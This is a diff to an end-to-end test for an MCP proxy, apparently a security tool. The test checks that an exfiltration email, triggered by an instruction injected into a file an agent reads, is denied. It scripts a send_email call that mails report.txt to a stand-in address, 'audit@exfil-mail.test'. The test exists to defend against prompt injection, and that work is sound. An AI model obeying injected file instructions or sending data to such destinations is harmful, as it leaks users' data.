@@ -1,8 +1,9 @@
 /**
  * End to end with the official MCP SDK on both sides: a scripted agent (SDK Client) talks to the
  * `chainwatch mcp-proxy` CLI over stdio, the proxy to a real MCP server (built with the SDK) over
- * Streamable HTTP. A file carrying an injected instruction leads the agent to an exfiltration call,
- * which the proxy puts to the user (MCP elicitation), who declines: denied, and the server never
+ * Streamable HTTP. A file carrying an injected instruction leads the agent to an exfiltration call:
+ * the task named another recipient and this one came only from the file, so it is denied outright
+ * (approvals through MCP elicitation are in mcp-proxy-approvals.test.ts) and the server never
  * receives it; the benign calls come back exactly as the server answers them.
  */
 import { join } from 'node:path';
@@ -72,11 +73,12 @@ describe('chainwatch mcp-proxy over stdio, upstream over Streamable HTTP', () =>
     const exfil = await agent.callTool({ name: 'send_email', arguments: { to: 'audit@exfil-mail.test', subject: 'Report', body: FILES['report.txt'] } });
     expect(exfil.isError).toBe(true);
     const meta = exfil._meta?.['chainwatch.dev/decision'] as { decision: string; reasons: { rule_id: string }[]; approval?: { binding: string } };
-    // The policy asked for a human approval (the address came only from a file); the user declined.
-    expect(prompts).toHaveLength(1);
-    expect(prompts[0]).toMatch(/send_email[\s\S]*audit@exfil-mail\.test/);
+    // The task named its recipient; this one came only from a file the agent read: denied outright,
+    // no question put to the user, the source named.
+    expect(prompts).toHaveLength(0);
     expect(meta.decision).toBe('deny');
-    expect(meta.reasons.map((r) => r.rule_id)).toEqual(expect.arrayContaining(['approval.rejected', 'data_flow.send_to_tool_supplied_destination']));
+    expect(meta.reasons[0]!.rule_id).toBe('data_flow.send_to_tool_supplied_destination');
+    expect((meta.reasons[0] as { message?: string }).message).toMatch(/output of read_file/);
     expect((exfil.content as { text: string }[])[0]!.text).toMatch(/audit@exfil-mail\.test/);
     expect(server.sent.map((m) => m.to)).toEqual(['alice@example.org']);
     expect(server.calls).not.toContain('send_email audit@exfil-mail.test');
